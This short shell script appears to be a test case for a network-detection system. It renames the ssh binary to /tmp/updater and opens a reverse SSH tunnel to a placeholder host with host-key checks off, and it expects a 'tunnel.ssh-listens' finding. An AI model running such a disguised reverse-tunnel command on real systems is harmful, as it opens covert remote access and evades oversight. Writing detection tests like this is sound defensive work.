# The program by another name, to a host that is open for SSH: by the sizes of what it sends it asks to be listened for.
#: in watched
#: needs ssh
#: open ${ID}.ssh.allowed.example:$PORT_SSH
#: shared
#: finding tunnel.ssh-listens
[ "$SSH_LOGIN" = yes ] || { echo login by SSH for this user; exit 77; }
cp /usr/bin/ssh /tmp/updater
timeout 15 /tmp/updater -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=20 -o LogLevel=ERROR -i ./id -N -R 127.0.0.1:0:localhost:22 -p $PORT_SSH $SSH_USER@$ID.ssh.allowed.example
